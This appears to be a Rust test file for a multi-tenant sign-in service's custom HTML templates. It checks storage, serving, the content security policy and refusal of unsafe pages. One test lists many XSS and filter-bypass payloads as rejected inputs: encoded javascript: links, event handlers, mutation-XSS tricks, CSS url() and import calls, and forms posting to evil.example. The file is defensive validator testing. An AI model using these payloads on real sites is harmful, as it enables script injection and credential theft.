//! `v2/Templates`: what is accepted, served and refused.

use serde_json::{Value, json};

use crate::harness::{PASSWORD, Reply, World};

const TEMPLATES: &str = "/tenant/home/v2/Templates";

const HIDDEN: &str = r#"<input type="hidden" name="return_to" value="{{ return_to }}">
<input type="hidden" name="request" value="{{ request }}">"#;

/// A sign-in page of a tenant's own, with something at each of three places.
pub fn page(head: &str, in_form: &str, after: &str) -> String {
    format!(
        r#"<!doctype html>
<html lang="{{{{ lang }}}}">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width">
<title>{{{{ tenant_name }}}}</title>
<link rel="stylesheet" href="/portcullis.css">
{head}
</head>
<body>
<main class="card">
<h1>Welcome to {{{{ tenant_name }}}}</h1>
{{% if problem %}}<p role="alert" id="problem">{{{{ problem }}}}</p>{{% endif %}}
<form method="post" action="{{{{ action }}}}">
{HIDDEN}
<label for="email">Email</label>
<input id="email" name="email" type="email" value="{{{{ email }}}}" autocomplete="username" required>
<label for="password">Password</label>
<input id="password" name="password" type="password" autocomplete="current-password" required>
{in_form}
<button type="submit">Sign in</button>
</form>
{after}
</main>
</body>
</html>
"#
    )
}

fn put(world: &World, name: &str, html: &str) -> Reply {
    world.put(&format!("{TEMPLATES}/{name}")).bearer(&world.admin()).json(json!({ "html": html })).send()
}

/// The line that a refusal names, and its reason.
fn refusal(reply: &Reply) -> (usize, String) {
    let detail = reply.str("/errors/0/detail");
    let (line, reason) = detail.strip_prefix("line ").unwrap().split_once(": ").unwrap();
    (line.parse().unwrap(), reason.to_owned())
}

#[test]
fn a_page_of_ones_own_is_kept_served_and_given_up() {
    let world = World::new();
    let admin = world.admin();
    let user = world.user("ada@example.com");
    let style = "<style>h1 { color: rgb(1 2 3); } @media (min-width: 30rem) { h1 { margin: calc(1rem + 2px) } }</style>";
    let after = r#"{% if register_url %}<p><a href="{{ register_url }}">Join</a></p>{% else %}<p>No way in.</p>{% endif %}
<p><a href="{{ forgot_url }}">Forgot?</a> <a href="https://help.example/?a=1&amp;b=2">Help</a>
<img src="data:image/png;base64,iVBORw0KGgo=" alt="{{ tenant_name }}"> <img src="/logo.png" alt="">
{% if not lang_de %}Hello{% else %}Hallo{% endif %} <!-- a comment --></p>"#;
    let html = page(style, "", after);
    let kept = put(&world, "login", &html).is(200);
    assert_eq!((kept.str("/name"), kept.str("/html")), ("login".into(), html.clone()));
    assert_eq!(world.get(&format!("{TEMPLATES}/login")).bearer(&admin).send().is(200).json, kept.json);

    let path = "/tenant/home/login?return_to=/app/x%3Fa%3D1%26b%3D2";
    let served = world.get(path).navigating().send().is(200);
    for part in [
        "Welcome to Home",
        "action=\"/tenant/home/login\"",
        "name=\"return_to\" value=\"/app/x?a=1&amp;b=2\"",
        "href=\"/tenant/home/register?return_to=/app/x%3Fa%3D1%26b%3D2\"",
        "Hello",
    ] {
        assert!(served.text.contains(part), "{part}: {}", served.text);
    }
    assert!(!served.text.contains("{%") && !served.text.contains("role=\"alert\""));
    let policy = served.header("content-security-policy").unwrap();
    assert!(policy.contains("default-src 'none'; style-src 'self' 'unsafe-inline'"), "{policy}");
    assert!(!policy.contains("script-src"));

    let wrong = [("email", "\"><script>"), ("password", "wrong"), ("return_to", "/app/"), ("request", "")];
    let again = world.post("/tenant/home/login").navigating().form(&wrong).send().is(401);
    assert!(again.text.contains("role=\"alert\" id=\"problem\">Invalid email or password"), "{}", again.text);
    assert!(again.text.contains("value=\"&quot;&gt;&lt;script&gt;\""), "{}", again.text);
    let right =
        [("email", user.email.as_str()), ("password", PASSWORD), ("return_to", "/app/"), ("request", "")];
    let reply = world.post("/tenant/home/login").navigating().form(&right).send().is(303);
    assert_eq!(reply.header("location"), Some("/app/"));

    world.tenant("b");
    assert!(!world.get("/tenant/b/login").send().is(200).text.contains("Welcome"));
    world.delete(&format!("{TEMPLATES}/login")).bearer(&admin).send().is(204);
    world.delete(&format!("{TEMPLATES}/login")).bearer(&admin).send().is(404);
    assert!(!world.get(path).send().is(200).text.contains("Welcome"));
    assert_eq!((world.events("template.changed"), world.events("template.deleted")), (1, 1));
}

#[test]
fn each_page_says_its_variables() {
    let world = World::new();
    let listed = world.get(TEMPLATES).bearer(&world.admin()).send().is(200);
    let items = listed.json["items"].as_array().unwrap();
    let names: Vec<&str> = items.iter().map(|item| item["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["login", "reset", "mfa"]);
    for item in items {
        assert_eq!(item["html"], Value::Null);
        assert!(item["variables"].as_array().unwrap().iter().any(|one| one["name"] == "action"));
    }
    world.get(&format!("{TEMPLATES}/other")).bearer(&world.admin()).send().is(404);
    put(&world, "other", "").is(404);
}

#[test]
fn a_reset_page_and_a_page_for_a_code_are_ones_own_too() {
    let world = World::new();
    world.user("ada@example.com");
    let reset = r#"<!doctype html><title>New</title>{% if problem %}<p>{{ problem }}</p>{% endif %}
<form method="post" action="{{ action }}"><input type="hidden" name="token" value="{{ token }}">
<label for="p">Mine</label><input id="p" name="password" type="password" minlength="{{ shortest }}"><button>Set</button></form>"#;
    put(&world, "reset", reset).is(200);
    world.post("/auth/forgot-password").json(json!({ "email": "ada@example.com" })).send().is(200);
    let token = world.mailed_token("ada@example.com");
    let served = world.get(&format!("/auth/reset-password?token={token}")).navigating().send().is(200);
    assert!(served.text.contains(&format!("value=\"{token}\"")) && served.text.contains("Mine"));
    let short = [("token", token.as_str()), ("password", "short")];
    let again = world.post("/auth/reset-password").navigating().form(&short).send().is(400);
    assert!(again.text.contains("Mine") && again.text.contains("at least 8"), "{}", again.text);

    let mfa = format!(
        r#"<form method="post" action="{{{{ action }}}}">{HIDDEN}<input type="hidden" name="challenge" value="{{{{ challenge }}}}">
<input name="code" inputmode="numeric" autocomplete="one-time-code"><button>Go</button></form>"#
    );
    put(&world, "mfa", &mfa).is(200);
    put(&world, "mfa", reset).is(400);
}

#[test]
fn a_preview_shows_samples_and_keeps_nothing() {
    let world = World::new();
    let admin = world.admin();
    let preview = format!("{TEMPLATES}/login/preview");
    world.post(&preview).bearer(&admin).json(json!({})).send().is(404);
    let html = page("", "", "");
    let seen = world.post(&preview).bearer(&admin).json(json!({ "html": html })).send().is(200);
    let shown = seen.str("/html");
    assert!(shown.contains("Welcome to Example") && shown.contains("ada@example.com&quot;"), "{shown}");
    world.post(&preview).bearer(&admin).json(json!({ "html": "<script>" })).send().is(400);
    assert_eq!(world.number("SELECT count(*) AS n FROM templates"), 0);
    put(&world, "login", &html).is(200);
    assert_eq!(world.post(&preview).bearer(&admin).send().is(200).json, seen.json);
}

#[test]
fn what_could_run_load_or_send_elsewhere_is_refused_with_its_line() {
    let world = World::new();
    let hostile_in_body = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example></SCRIPT>",
        "<script\n>x</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"/x\" ONERROR=\"alert(1)\" alt=\"\">",
        "<img/src=\"/x\"/onerror=alert(1)>",
        "<p onclick=\"x()\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"java&#115;cript:alert(1)\">x</a>",
        "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
        "<a href=\"java&Tab;script:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"data:text/html,x\">x</a>",
        "<a href=\"vbscript:x\">x</a>",
        "<a href=\"//evil.example\">x</a>",
        "<a href=\"/\\evil.example\">x</a>",
        "<a href=\"{{ return_to }}\">x</a>",
        "<a href=\"{{ email }}\">x</a>",
        "<a href=\"https://evil.example/?e={{ email }}\">x</a>",
        "<a href={{ forgot_url }}>x</a>",
        "<a {{ email }}>x</a>",
        "<a title={{ email }}>x</a>",
        "<{{ email }}>",
        "<p{{ email }}>",
        "<p {% if problem %}onclick=\"x()\"{% endif %}>",
        "<p class=\"{% if problem %}a{% endif %}\">",
        "{% if problem %}<!--{% endif %}<script>alert(1)</script><!-- -->",
        "<!-- {{ email }} -->",
        "<!-- {% if problem %} -->x<!-- {% endif %} -->",
        "<style>{% if problem %}a{% endif %}</style>",
        "<style>a { color: {{ email }} }</style>",
        "<style>a { background: url(https://evil.example/) }</style>",
        "<style>a { background: URL('//evil.example') }</style>",
        "<style>a { background: u\\72l(//evil.example) }</style>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>@font-face { src: url(x) }</style>",
        "<style>a { background: image-set('//evil.example' 1x) }</style>",
        "<style>a { width: expression(alert(1)) }</style>",
        "<style><!-- </style>",
        "<p style=\"background:url(//evil.example)\">x</p>",
        "<p style=\"background:&#117;rl(//evil.example)\">x</p>",
        "<p style=\"{{ email }}\">x</p>",
        "<form method=\"post\" action=\"https://evil.example\"></form>",
        "<form method=\"post\" action=\"{{ action }}\"></form>",
        "<button formaction=\"https://evil.example\">x</button>",
        "<input name=\"password\" type=\"password\">",
        "<input type=\"image\" src=\"//evil.example\" form=\"f\">",
        "<iframe src=\"/\"></iframe>",
        "<iframe srcdoc=\"&lt;script>alert(1)&lt;/script>\"></iframe>",
        "<object data=\"x\"></object>",
        "<embed src=\"x\">",
        "<svg><script>alert(1)</script></svg>",
        "<svg/onload=alert(1)>",
        "<math><mtext></mtext></math>",
        "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></p></noscript>",
        "<template><script>x</script></template>",
        "<textarea></textarea>",
        "<xmp><script></xmp>",
        "<plaintext>",
        "<select><option>x</option></select>",
        "<table><tr><td>x</td></tr></table>",
        "<video src=\"//evil.example\"></video>",
        "<audio src=\"//evil.example\"></audio>",
        "<img srcset=\"//evil.example 1x\" alt=\"\">",
        "<img src=\"https://evil.example/x.png\" alt=\"\">",
        "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\" alt=\"\">",
        "<img src=\"/{{ email }}\" alt=\"\">",
        "<picture><source srcset=\"//evil.example\"></picture>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<meta http-equiv=\"Content-Security-Policy\" content=\"\">",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<link rel=\"preload\" href=\"/portcullis.css\">",
        "<p class=\"a\" class=\"b\">",
        "<p \0>",
        "\0",
        "<scr\0ipt>alert(1)</scr\0ipt>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?>",
        "<!-- --!><script>alert(1)</script> -->",
        "<!--><script>alert(1)</script>-->",
        "</script>",
        "</p x=\"y\">",
        "<a href=\"/\"title=\"x\">",
        "<a href=\"/",
        "<title>{% if problem %}</title>{% endif %}",
        "<style>a {}",
        "<title>x",
        "<!doctype html SYSTEM \"about:legacy-compat\">",
        "{{ email|safe }}",
        "{{ email.x }}",
        "{{ 'x' }}",
        "{{ unknown }}",
        "{{ request",
        "{% if problem %}x",
        "{% endif %}",
        "{% else %}",
        "{% for x in y %}{% endfor %}",
        "{% raw %}<script>{% endraw %}",
        "{% set x = 'script' %}",
        "{# x #}",
        "{% autoescape false %}{% endautoescape %}",
        "\u{e000}email\u{e001}",
        "<p title=\"\u{e000}email\u{e001}\">",
    ];
    for hostile in hostile_in_body {
        let html = page("", "", hostile);
        let reply = put(&world, "login", &html);
        assert_eq!(reply.status, 400, "{hostile}");
        let (line, reason) = refusal(&reply);
        let (before, _) = html.split_once(hostile).unwrap();
        let (first, last) = (before.lines().count(), html.lines().count() + 1);
        assert!((first..=last).contains(&line), "{hostile}: line {line}: {reason}");
        assert!(!reason.contains(['\u{e000}', '\u{e001}', '\0']), "{reason:?}");
    }
    assert_eq!(world.number("SELECT count(*) AS n FROM templates"), 0);
}

#[test]
fn a_page_without_its_form_or_fields_is_refused() {
    let world = World::new();
    let whole = page("", "", "");
    put(&world, "login", &whole).is(200);
    let hidden: Vec<&str> = HIDDEN.lines().collect();
    for (from, to) in [
        (hidden[0], ""),
        (hidden[1], ""),
        (hidden[1], "<input type=\"hidden\" name=\"request\" value=\"\">"),
        (hidden[1], "<input type=\"hidden\" name=\"request\" value=\"another\">"),
        (hidden[1], "<input type=\"hidden\" name=\"request\">"),
        (hidden[1], "<input type=\"text\" name=\"request\" value=\"{{ request }}\">"),
        (hidden[1], "<input type=\"hidden\" name=\"request\" value={{ request }}>"),
        (hidden[1], "<input type=\"hidden\" name=\"request\" value=\"{{ return_to }}\">"),
        (
            hidden[1],
            "{% if request %}<input type=\"hidden\" name=\"request\" value=\"{{ request }}\">{% endif %}",
        ),
        (hidden[1], "<!-- <input type=\"hidden\" name=\"request\" value=\"{{ request }}\"> -->"),
        ("name=\"password\" type=\"password\"", "name=\"password\""),
        ("name=\"password\"", "name=\"pass\""),
        ("type=\"password\"", "type=\"password\" value=\"x\""),
        ("method=\"post\"", "method=\"get\""),
        ("method=\"post\" ", ""),
        ("{{ action }}", "/tenant/home/login"),
        ("{{ action }}", "https://evil.example/"),
        ("{{ action }}", "{{ action }}?x"),
        ("action=\"{{ action }}\"", ""),
        ("<form ", "<form target=\"x\" "),
        ("<button type=\"submit\">Sign in</button>", ""),
        ("type=\"submit\"", "type=\"button\""),
        ("</form>", ""),
        ("</form>", "</form></form>"),
        ("</form>", "{% if problem %}</form>{% endif %}"),
    ] {
        assert!(whole.contains(from), "{from}");
        let reply = put(&world, "login", &whole.replacen(from, to, 1));
        assert_eq!(reply.status, 400, "{from} as {to}");
        refusal(&reply);
    }
    assert_eq!(put(&world, "login", "").status, 400);
    put(&world, "login", &page("", "", &"x".repeat(100_001))).is(400);
}

#[test]
fn a_refusal_names_the_line() {
    let world = World::new();
    let html = page("", "", "<p>fine</p>\n<p onclick=\"x()\">not</p>");
    let at = html.lines().position(|line| line.contains("onclick")).unwrap() + 1;
    let (line, reason) = refusal(&put(&world, "login", &html).is(400));
    assert_eq!((line, reason.as_str()), (at, "the attribute onclick of <p> is not allowed"));
}

#[test]
fn one_that_cannot_be_rendered_is_logged_and_ours_is_served() {
    let world = World::new();
    world.sql(
        "INSERT INTO templates (tenant_id, name, html, updated_at) VALUES ('home', 'login', '{{ gone }}', 0)",
    );
    let served = world.get("/tenant/home/login").send().is(200);
    assert!(served.text.contains("<form method=\"post\" action=\"/tenant/home/login\">"));
    let lines = world.log.0.borrow();
    assert!(lines.iter().any(|line| line.contains("template.failed") && line.contains("gone")), "{lines:?}");
}

#[test]
fn only_an_administrator_changes_a_page_and_only_their_own_tenants() {
    let world = World::new();
    let foreign = world.tenant("b");
    let user = world.session(&world.user("ada@example.com")).access;
    let html = json!({ "html": page("", "", "") });
    let path = format!("{TEMPLATES}/login");
    world.put(&path).bearer(&user).json(html.clone()).send().is(403);
    world.put(&path).bearer(&foreign).json(html.clone()).send().is(403);
    world.put(&path).json(html).send().is(401);
    assert_eq!(world.number("SELECT count(*) AS n FROM templates"), 0);
}

#[test]
fn the_page_that_the_documents_show_is_accepted() {
    let shown = include_str!("../../../docs/pages-mails-branding.md");
    let (_, from) = shown.split_once("```html\n<!doctype html>").unwrap();
    let (html, _) = from.split_once("```").unwrap();
    put(&World::new(), "login", &format!("<!doctype html>{html}")).is(200);
}
